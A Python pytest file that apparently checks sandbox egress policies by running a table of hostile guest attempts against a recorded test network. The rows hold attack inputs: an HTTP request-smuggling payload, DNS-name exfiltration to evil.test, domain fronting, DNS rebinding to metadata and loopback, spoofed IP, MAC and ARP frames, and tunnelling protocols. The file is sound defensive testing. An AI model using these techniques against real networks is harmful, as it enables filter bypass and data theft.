"""What a hostile guest tries against its network policy: a table of attempts, each with what it may see and what may
arrive. A net of real hosts in a namespace writes down every packet that reaches it: that is the proof, whatever the
guest believes. The table is printed when it ends (`pytest -rA`, or on a failure).
"""

import socket
import subprocess
from collections import namedtuple

import pytest
from support import sandboxes
from support.daemon import wait_for
from support.testnet import (
    DEAD, DNS, EVIL, FOREIGN_DNS, GOOD, HOST, PRIVATE, PUBLIC_RESOLVER, SOCKS, attempt, prepare,
)

ALL = "0.0.0.0/0"
BARRIER = 9
NOTHING = set()

HEADERS = {"good.test": [{"transform": {"headers": {"X-Secret": "s3cret", "Authorization": "Bearer real"}}}]}
# The same, with values that only the node puts in.
SECRETS = {"policy-secret": "s3cret", "policy-token": "real"}
NAMED = {"good.test": [{"transform": {"headers": {
    "X-Secret": "${e2b.secrets.policy-secret}", "Authorization": "Bearer ${e2b.secrets.Policy-Token}"}}}]}
PROXY = {"address": f"{SOCKS}:1080", "username": "me", "password": "secret"}
POLICIES = {
    "open": {},
    "closed": {"allow_internet_access": False},
    "cidr": {"network": {"allow_out": [GOOD], "deny_out": [ALL]}},
    "deny-one": {"network": {"deny_out": [f"{EVIL}/32"]}},
    "names": {"network": {
        "allow_out": ["good.test", "*.wild.test", "cname.test", "big.test", "rebind.test", "loop.test", "meta.test"],
        "deny_out": [ALL]}},
    "rules": {"network": {"allow_out": ["good.test"], "deny_out": [ALL], "rules": HEADERS}},
    "open-rules": {"network": {"rules": HEADERS}},
    "secret-rules": {"network": {"rules": NAMED}},
    "proxy": {"network": {"egress_proxy": PROXY}},
    "proxy-names": {"network": {"allow_out": ["good.test"], "deny_out": [ALL], "egress_proxy": PROXY}},
    "proxy-dead": {"network": {"egress_proxy": {**PROXY, "address": f"{DEAD}:1080"}}},
    "proxy-wrong": {"network": {"egress_proxy": {**PROXY, "password": "wrong"}}},
    "own-dns": {"network": {"allow_out": ["good.test"], "deny_out": [ALL], "dns_servers": [FOREIGN_DNS]}},
}

Row = namedtuple("Row", "policy name how args named seen arrives")


def row(policy, name, how, *args, seen, arrives=NOTHING, **named):
    """`seen`: what the guest may see, alternatives in a tuple, `…` for any end. `arrives`: hosts that packets reach,
    the node's own questions to its resolver not counted unless it is named."""
    seen = (seen,) if isinstance(seen, str) else seen
    return Row(policy, name, how, args, named, seen, set(arrives))


NO = ("none…", "reset", "closed")
GOOD_SEEN, EVIL_SEEN = "ok I am good", "ok I am evil"

ROWS = [
    # No policy: the internet, and nothing else.
    row("open", "a web page", "http", GOOD, "good.test", seen=GOOD_SEEN, arrives={GOOD}),
    row("open", "TLS", "https", GOOD, "good.test", seen=GOOD_SEEN, arrives={GOOD}),
    row("open", "any TCP port", "tcp", GOOD, 7, seen="ok", arrives={GOOD}),
    row("open", "UDP", "udp", GOOD, 7, seen="ok", arrives={GOOD}),
    row("open", "UDP in fragments", "big_udp", GOOD, 7, seen="ok", arrives={GOOD}),
    row("open", "ping", "icmp", GOOD, seen="ok", arrives={GOOD}),
    row("open", "its resolver", "dns", PUBLIC_RESOLVER, "evil.test", seen=f"ok {EVIL}", arrives={PUBLIC_RESOLVER}),
    row("open", "another resolver", "dns", FOREIGN_DNS, "evil.test", seen=f"ok {EVIL}", arrives={FOREIGN_DNS}),
    *[row("open", f"private host {ip}, TCP", "http", ip, "x.test", seen=NO) for ip in PRIVATE],
    *[row("open", f"private host {ip}, UDP", "udp", ip, 7, seen=NO) for ip in PRIVATE],
    *[row("open", f"private host {ip}, ping", "icmp", ip, seen=NO) for ip in PRIVATE[:2]],
    row("open", "the host by its public address", "tcp", HOST, "{listener}", seen=NO),
    row("open", "the host by its public address, UDP", "udp", HOST, "{listener}", seen=NO),
    row("open", "the API of the node", "tcp", HOST, "{api}", seen=NO),
    row("open", "the host by the slot's pair", "tcp", "{pair}", "{listener}", seen=NO),
    row("open", "the slot's gateway, TCP port", "tcp", "169.254.0.22", 10001, seen=NO),
    row("open", "the slot's gateway, DNS port", "dns", "169.254.0.22", "good.test", port=10053, seen=NO),
    row("open", "the slot's gateway, hyperloop's port", "tcp", "169.254.0.22", 10080, seen=NO),
    row("open", "SSH of the slot's gateway", "tcp", "169.254.0.22", 22, seen=NO),
    row("open", "another sandbox, by its host address", "tcp", "{other}", 49983, seen=NO),
    row("open", "another sandbox, UDP", "udp", "{other}", 7, seen=NO),
    row("open", "itself by its host address", "tcp", "{own}", 49983, seen=NO),
    row("open", "hyperloop", "me", seen="ok {id}"),
    row("open", "hyperloop by its name", "me", "http://events.e2b.local/me", seen="ok {id}"),
    row("open", "another port of hyperloop's address", "tcp", "192.0.2.1", 22, seen=NO),
    row("open", "UDP to hyperloop's address", "udp", "192.0.2.1", 80, seen=NO),
    row("open", "hyperloop's neighbour", "tcp", "192.0.2.2", 80, seen=NO),
    row("open", "source of another public address", "frame", EVIL, GOOD, seen="sent"),
    row("open", "source of the gateway", "frame", "169.254.0.22", GOOD, seen="sent"),
    row("open", "source of another sandbox", "frame", "{other}", GOOD, seen="sent"),
    row("open", "source of this host", "frame", HOST, GOOD, seen="sent"),
    row("open", "source 127.0.0.1", "frame", "127.0.0.1", GOOD, seen="sent"),
    row("open", "an honest frame (control)", "frame", "169.254.0.21", GOOD, seen="sent", arrives={GOOD}),
    row("open", "another MAC", "frame", "169.254.0.21", GOOD, source_mac="02aabbccddee", seen="sent"),
    row("open", "the gateway's own MAC as source", "frame", "169.254.0.21", GOOD, source_mac="02fc00000006", seen="sent"),
    row("open", "an Ethernet broadcast", "frame", "169.254.0.21", GOOD, target_mac="ffffffffffff", seen="sent"),
    row("open", "destination 127.0.0.1 on the wire", "frame", "169.254.0.21", "127.0.0.1", seen="sent"),
    row("open", "loose source route to a private host", "frame", "169.254.0.21", GOOD, seen="sent",
        options="830b04" + socket.inet_aton(PRIVATE[0]).hex() + socket.inet_aton(PRIVATE[0]).hex() + "00"),
    row("open", "a VLAN tag", "vlan", GOOD, seen="sent"),
    row("open", "ARP: claims the gateway", "arp_then", "169.254.0.22", GOOD, 7, seen="sent"),
    row("open", "ARP: claims another sandbox", "arp_then", "{other}", GOOD, 7, seen="sent"),
    row("open", "another address on its card", "other_address", "169.254.0.25", GOOD, 7, seen=NO),
    row("open", "a private address on its card", "other_address", "10.0.0.5", GOOD, 7, seen=NO),
    row("open", "broadcast", "broadcast", "255.255.255.255", 7, seen=NO),
    row("open", "broadcast of its own net", "broadcast", "169.254.0.23", 7, seen=NO),
    row("open", "broadcast of the net outside", "broadcast", "198.51.100.255", 7, seen=NO),
    row("open", "multicast", "udp", "224.0.0.251", 5353, seen=NO),
    row("open", "a reserved address", "udp", "240.0.0.1", 7, seen=NO),
    row("open", "IPv6, global", "tcp6", "2001:db8::10", 80, seen=NO),
    row("open", "IPv6, the tap", "tcp6", "fe80::fc:ff:fe00:6", 22, seen=NO),
    row("open", "IPv6, all nodes", "udp6", "ff02::1", 7, seen=NO),
    row("open", "IPv6, NAT64", "udp6", "64:ff9b::c633:640a", 7, seen=NO),
    row("open", "IPv6, mapped IPv4", "udp6", "::ffff:192.168.77.2", 7, seen=NO),
    row("open", "6in4 to a private host", "protocol", PRIVATE[0], 41, seen="sent"),
    row("open", "GRE to a private host", "protocol", PRIVATE[0], 47, seen="sent"),
    # No internet.
    row("closed", "a web page", "http", GOOD, "good.test", seen=NO),
    row("closed", "TLS", "https", GOOD, "good.test", seen=NO),
    row("closed", "UDP", "udp", GOOD, 7, seen=NO),
    row("closed", "ping", "icmp", GOOD, seen=NO),
    row("closed", "GRE", "protocol", GOOD, 47, seen="sent"),
    row("closed", "SCTP", "protocol", GOOD, 132, seen="sent"),
    row("closed", "names by its resolver", "dns", PUBLIC_RESOLVER, "good.test", seen="REFUSED"),
    row("closed", "names by a foreign resolver", "dns", FOREIGN_DNS, "data.evil.test", seen="REFUSED"),
    row("closed", "names over TCP", "dns", FOREIGN_DNS, "data.evil.test", tcp=True, seen="REFUSED"),
    row("closed", "a resolver on another port", "dns", FOREIGN_DNS, "data.evil.test", port=5353, seen=NO),
    row("closed", "hyperloop all the same", "me", seen="ok {id}"),
    # Addresses.
    row("cidr", "the allowed address", "tcp", GOOD, 7, seen="ok", arrives={GOOD}),
    row("cidr", "the allowed address, UDP", "udp", GOOD, 443, seen="ok", arrives={GOOD}),
    row("cidr", "the allowed address, ping", "icmp", GOOD, seen="ok", arrives={GOOD}),
    row("cidr", "another address", "tcp", EVIL, 7, seen=NO),
    row("cidr", "another address, UDP", "udp", EVIL, 7, seen=NO),
    row("cidr", "another address, ping", "icmp", EVIL, seen=NO),
    row("cidr", "the allowed address's name to another address", "https", EVIL, "good.test", seen=NO),
    row("cidr", "names", "dns", PUBLIC_RESOLVER, "good.test", seen="REFUSED"),
    row("deny-one", "the denied address", "tcp", EVIL, 7, seen=NO),
    row("deny-one", "the denied address, UDP", "udp", EVIL, 7, seen=NO),
    row("deny-one", "the others", "tcp", GOOD, 7, seen="ok", arrives={GOOD}),
    row("deny-one", "names of all", "dns", PUBLIC_RESOLVER, "evil.test", seen=f"ok {EVIL}", arrives={DNS}),
    # Names.
    row("names", "TLS to an allowed name", "https", GOOD, "good.test", seen=GOOD_SEEN, arrives={GOOD}),
    row("names", "verified: nobody is between", "https", GOOD, "good.test", verify=True, seen="untrusted…", arrives={GOOD}),
    row("names", "the name in capitals", "https", GOOD, "GOOD.test", seen=GOOD_SEEN, arrives={GOOD}),
    row("names", "TLS on another port", "https", GOOD, "good.test", port=8443, seen=GOOD_SEEN, arrives={GOOD}),
    row("names", "HTTP to an allowed name", "http", GOOD, "good.test", seen=GOOD_SEEN, arrives={GOOD}),
    row("names", "HTTP on another port", "http", GOOD, "good.test:8080", port=8080, seen=GOOD_SEEN, arrives={GOOD}),
    row("names", "below a wildcard", "https", GOOD, "a.wild.test", seen=GOOD_SEEN, arrives={GOOD}),
    row("names", "the wildcard's own name", "https", GOOD, "wild.test", seen=NO),
    row("names", "a name with an allowed one in front", "https", EVIL, "good.test.evil.test", seen=NO),
    row("names", "a name that ends like an allowed one", "https", EVIL, "notgood.test", seen=NO),
    row("names", "a name below an allowed one", "https", GOOD, "api.good.test", seen=NO),
    row("names", "an alias", "https", GOOD, "cname.test", seen=GOOD_SEEN, arrives={GOOD}),
    row("names", "TLS to another name", "https", EVIL, "evil.test", seen=NO),
    row("names", "another name at an allowed host's address", "https", GOOD, "evil.test", seen=NO),
    row("names", "fronting: the allowed name at another address", "https", EVIL, "good.test", seen=GOOD_SEEN, arrives={GOOD}),
    row("names", "fronting: allowed Host at another address", "http", EVIL, "good.test", seen=GOOD_SEEN, arrives={GOOD}),
    row("names", "fronting: allowed name at a private address", "https", PRIVATE[0], "good.test", seen=NO),
    row("names", "/etc/hosts says otherwise", "hosts_file", "good.test", EVIL, "good.test", seen=GOOD_SEEN, arrives={GOOD}),
    row("names", "a Host that is not allowed", "http", GOOD, "evil.test", seen="403"),
    row("names", "an address as Host", "http", EVIL, EVIL, seen="403"),
    row("names", "second request to another Host", "http", GOOD, "good.test", "evil.test", seen=f"{GOOD_SEEN} / 403", arrives={GOOD}),
    row("names", "both requests at once", "http", GOOD, "good.test", "evil.test", together=True, seen=f"{GOOD_SEEN} / 403", arrives={GOOD}),
    row("names", "absolute target elsewhere", "http", GOOD, "GET http://evil.test/ HTTP/1.1|Host: good.test||", seen="400"),
    row("names", "absolute target, allowed", "http", GOOD, "GET http://good.test/ HTTP/1.1|Host: good.test||", seen=GOOD_SEEN, arrives={GOOD}),
    row("names", "two Hosts", "http", GOOD, "GET / HTTP/1.1|Host: good.test|Host: evil.test||", seen="400"),
    row("names", "no Host", "http", EVIL, "GET / HTTP/1.0||", seen=("403", "400")),
    row("names", "CONNECT to another name", "http", GOOD, "CONNECT evil.test:443 HTTP/1.1|Host: evil.test:443||", seen=("403", "405")),
    row("names", "CONNECT by an allowed name", "http", GOOD, "CONNECT good.test:443 HTTP/1.1|Host: good.test:443||", seen="405"),
    row("names", "a length and chunks: one request in another", "http", GOOD,
        "POST / HTTP/1.1|Host: good.test|Content-Length: 60|Transfer-Encoding: chunked||0||GET /smuggled HTTP/1.1|Host: evil.test||",
        seen=("400", GOOD_SEEN), arrives={GOOD}),
    row("names", "a header line that is folded", "http", GOOD, "GET / HTTP/1.1|Host: good.test|X: a| evil.test||", seen=("400", *NO)),
    row("names", "HTTP/2 without TLS", "raw", GOOD, 80, "505249202a20485454502f322e300d0a0d0a534d0d0a0d0a000000040000000000", seen=NO),
    row("names", "TLS without a name", "https", GOOD, None, "good.test", seen=NO),
    row("names", "the name in many records", "fragmented", GOOD, "good.test", seen="ok", arrives={GOOD}),
    row("names", "another name in many records", "fragmented", EVIL, "evil.test", seen=NO),
    row("names", "broken TLS", "raw", EVIL, 443, "160301000501000001ff", seen=NO),
    row("names", "another protocol", "tcp", GOOD, 7, seen=NO),
    row("names", "SSH's first line", "raw", EVIL, 443, b"SSH-2.0-x\r\n".hex(), seen=NO),
    row("names", "says nothing", "silent", GOOD, 443, seen=NO),
    row("names", "QUIC", "udp", GOOD, 443, seen=NO),
    row("names", "UDP", "udp", GOOD, 7, seen=NO),
    row("names", "ping", "icmp", GOOD, seen=NO),
    row("names", "an allowed name's address", "dns", PUBLIC_RESOLVER, "good.test", seen=f"ok {GOOD}", arrives={DNS}),
    row("names", "asked of a foreign resolver", "dns", FOREIGN_DNS, "good.test", seen=f"ok {GOOD}", arrives={DNS}),
    row("names", "asked over TCP", "dns", FOREIGN_DNS, "good.test", tcp=True, seen=f"ok {GOOD}", arrives={DNS}),
    row("names", "another name's address", "dns", PUBLIC_RESOLVER, "evil.test", seen="REFUSED"),
    row("names", "data in a name", "dns", FOREIGN_DNS, "c2VjcmV0.evil.test", type=16, seen="REFUSED"),
    row("names", "data in a name, over TCP", "dns", FOREIGN_DNS, "c2VjcmV0.evil.test", type=16, tcp=True, seen="REFUSED"),
    row("names", "a resolver on another port", "dns", FOREIGN_DNS, "evil.test", port=5353, seen=NO),
    row("names", "a resolver on another port, TCP", "dns", FOREIGN_DNS, "evil.test", port=5353, tcp=True, seen=NO),
    row("names", "DNS over TLS", "https", FOREIGN_DNS, "dns.test", port=853, seen=NO),
    row("names", "IPv6 of an allowed name", "dns", PUBLIC_RESOLVER, "good.test", type=28, seen="ok"),
    row("names", "HTTPS record of an allowed name", "dns", PUBLIC_RESOLVER, "good.test", type=65, seen="ok"),
    row("names", "everything of an allowed name", "dns", PUBLIC_RESOLVER, "good.test", type=255, seen="REFUSED"),
    row("names", "text of an allowed name", "dns", PUBLIC_RESOLVER, "good.test", type=16, seen="ok hello", arrives={DNS}),
    row("names", "a long answer is cut", "dns", PUBLIC_RESOLVER, "big.test", seen="ok cut", arrives={DNS}),
    row("names", "a long answer over TCP", "dns", PUBLIC_RESOLVER, "big.test", tcp=True, seen="ok 100 addresses", arrives={DNS}),
    row("names", "rebinding: its address is not told", "dns", PUBLIC_RESOLVER, "rebind.test", seen="ok", arrives={DNS}),
    row("names", "rebinding: to a private host", "https", GOOD, "rebind.test", seen=NO),
    row("names", "rebinding: to the metadata service", "http", GOOD, "meta.test", seen="502"),
    row("names", "rebinding: to the node itself", "http", GOOD, "loop.test", seen="502"),
    # Headers that are set.
    row("rules", "HTTP", "http", GOOD, "good.test", seen=GOOD_SEEN, arrives={GOOD}),
    row("rules", "TLS, which the guest trusts", "https", GOOD, "good.test", verify=True, seen=GOOD_SEEN, arrives={GOOD}),
    row("rules", "the guest's own header of the name", "https", GOOD, "good.test", verify=True,
        header="Authorization: Bearer forged", seen=GOOD_SEEN, arrives={GOOD}),
    row("rules", "the secret goes to its host only", "https", EVIL, "good.test", verify=True, seen=GOOD_SEEN, arrives={GOOD}),
    row("rules", "the secret goes to its host only, HTTP", "http", EVIL, "good.test", seen=GOOD_SEEN, arrives={GOOD}),
    row("rules", "fronting inside of TLS", "https", GOOD, "good.test", "evil.test", verify=True, seen="421"),
    row("rules", "another name", "https", EVIL, "evil.test", seen=NO),
    row("open-rules", "another host is not touched", "https", EVIL, "evil.test", seen=EVIL_SEEN, arrives={EVIL}),
    row("open-rules", "another host is not touched, HTTP", "http", EVIL, "evil.test", seen=EVIL_SEEN, arrives={EVIL}),
    row("open-rules", "the host of the rule", "https", GOOD, "good.test", verify=True, seen=GOOD_SEEN, arrives={GOOD}),
    row("open-rules", "the secret goes to its host only, HTTP", "http", EVIL, "good.test", seen=GOOD_SEEN, arrives={GOOD}),
    row("open-rules", "the Host of the rule at a private address", "http", PRIVATE[0], "good.test", seen=NO),
    row("secret-rules", "a secret by its name", "http", GOOD, "good.test", seen=GOOD_SEEN, arrives={GOOD}),
    row("secret-rules", "a secret by its name, TLS", "https", GOOD, "good.test", verify=True, seen=GOOD_SEEN, arrives={GOOD}),
    row("secret-rules", "a secret goes to its host only", "https", EVIL, "evil.test", seen=EVIL_SEEN, arrives={EVIL}),
    # An upstream proxy.
    row("proxy", "TCP by the proxy", "tcp", GOOD, 7, seen="ok", arrives={SOCKS, f"socks {GOOD}:7"}),
    row("proxy", "TLS by the proxy", "https", GOOD, "good.test", seen=GOOD_SEEN, arrives={SOCKS, f"socks {GOOD}:443"}),
    row("proxy", "a private host by the proxy", "tcp", PRIVATE[0], 7, seen=NO),
    row("proxy", "this host by the proxy", "tcp", HOST, "{listener}", seen=NO),
    row("proxy-names", "an allowed name by the proxy", "https", EVIL, "good.test", seen=GOOD_SEEN, arrives={SOCKS, f"socks {GOOD}:443"}),
    row("proxy-names", "another name", "https", EVIL, "evil.test", seen=NO),
    row("proxy-dead", "a proxy that is not there", "tcp", GOOD, 7, seen=NO, arrives={DEAD}),
    row("proxy-wrong", "a proxy that refuses", "tcp", GOOD, 7, seen=NO, arrives={SOCKS}),
    # Resolvers of its own.
    row("own-dns", "its own resolver is asked", "dns", PUBLIC_RESOLVER, "good.test", seen=f"ok {GOOD}", arrives={FOREIGN_DNS}),
    row("own-dns", "for flows too", "https", EVIL, "good.test", seen=GOOD_SEEN, arrives={GOOD, FOREIGN_DNS}),
]


@pytest.fixture(scope="module")
def guests(net_daemon):
    """A sandbox of each policy, made when it is first asked for; `""` is one more, the others' neighbour."""
    made = {}

    def guest(policy):
        if policy not in made:
            if policy == "secret-rules":
                for name, value in SECRETS.items():
                    sandboxes.call(net_daemon, "POST", "/secrets", {"name": name, "value": value})
            made[policy] = sandboxes.create(net_daemon, **POLICIES.get(policy, {}))
            prepare(made[policy])
        return made[policy]

    yield guest
    for sandbox in made.values():
        sandbox.kill(**sandboxes.options(net_daemon))
    for name in SECRETS if "secret-rules" in made else ():
        sandboxes.call(net_daemon, "DELETE", f"/secrets/{name}")


@pytest.fixture(scope="module")
def listener():
    """A port of this host that answers over TCP, and tells of datagrams."""
    with socket.create_server(("0.0.0.0", 0)) as tcp, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.bind(("0.0.0.0", tcp.getsockname()[1]))
        udp.setblocking(False)
        tcp.setblocking(False)
        yield tcp, udp


@pytest.fixture(scope="module")
def table():
    lines = []
    yield lines
    print("\nwhat a guest tried, what it saw, what arrived:")
    for line in lines:
        print(line)


def host_ip(sandbox):
    """The address at which the host reaches a sandbox: the one whose envd says that it is it."""
    for name in subprocess.run(["ip", "-4", "route", "show"], capture_output=True, text=True, check=True).stdout.split("\n"):
        if name.startswith("10.11."):
            ip = name.split()[0]
            done = subprocess.run(
                ["curl", "-s", "-m", "3", "-H", f"X-Access-Token: {sandbox._envd_access_token}", f"http://{ip}:49983/envs"],
                capture_output=True, text=True)
            if sandbox.sandbox_id in done.stdout:
                return ip
    raise AssertionError(f"no slot is {sandbox.sandbox_id}'s")


def matches(pattern, seen):
    return seen.startswith(pattern[:-1]) if pattern.endswith("…") else seen == pattern


def arrived(net, mark):
    """Hosts that something reached since, once everything that was on its way has: frames keep their order."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"barrier", (GOOD, BARRIER))
    events = wait_for(
        "the barrier to arrive",
        lambda: (seen := net.since(mark)) and any(e["what"] == "packet" and e["port"] == BARRIER for e in seen) and seen,
        10, every=0.01,
    )
    return events


def hosts(events):
    found = {e["to"] for e in events if e["what"] == "packet" and e["port"] != BARRIER}
    return found | {f"socks {e['to']}" for e in events if e["what"] == "socks"}


@pytest.fixture(scope="module")
def places(guests, net_daemon, listener):
    """What stands for names in braces."""
    known = {}

    def of(policy):
        if policy not in known:
            own = host_ip(guests(policy))
            known[policy] = {
                "own": own, "other": host_ip(guests("")), "pair": own.replace("10.11.", "10.12.", 1),
                "listener": listener[0].getsockname()[1], "api": net_daemon.api_port, "id": guests(policy).sandbox_id,
            }
        return known[policy]

    return of


def filled(value, places):
    if isinstance(value, str) and value.startswith("{") and value.endswith("}"):
        return places[value[1:-1]]
    return value


@pytest.mark.parametrize("row", ROWS, ids=lambda r: f"{r.policy}: {r.name}")
def test_attempt(row, net, guests, places, listener, table):
    sandbox = guests(row.policy)
    where = places(row.policy) if any("{" in str(a) for a in (*row.args, *row.seen)) else {}
    args = [filled(a, where) for a in row.args]
    expected = tuple(s.replace("{id}", where.get("id", "")) for s in row.seen)
    mark = net.mark()
    # What arrives says whether it was let through; the guest need not wait long for nothing.
    silent = any(word in row.seen for word in NO)
    seen = attempt(sandbox, row.how, *args, wait=1 if silent else 10, **row.named)
    events = arrived(net, mark)
    reached = hosts(events)
    # The node's own questions, unless the row is about them.
    if DNS not in row.arrives:
        reached.discard(DNS)
    table.append(f"  {row.policy:<12} {row.name:<48} saw {seen:<24} arrived {sorted(reached) or '-'}")
    assert any(matches(e, seen) for e in expected), f"the guest saw {seen!r}; {events}"
    allowed = set(row.arrives)
    assert reached == allowed, events
    asked = [e["name"] for e in events if e["what"] == "dns" and e["at"] in (FOREIGN_DNS, PUBLIC_RESOLVER)]
    assert not asked or {FOREIGN_DNS, PUBLIC_RESOLVER} & allowed, asked
    for e in events:
        if e["what"] == "http":
            named = e["headers"].get("x-secret"), e["headers"].get("authorization")
            wanted = ("s3cret", "Bearer real") if "rules" in row.policy and e["host"] == "good" else (None, None)
            assert named == wanted, e
            assert "smuggled" not in e["path"]
    for tried in (listener[0].accept, lambda: listener[1].recvfrom(100)):
        with pytest.raises(BlockingIOError):
            tried()
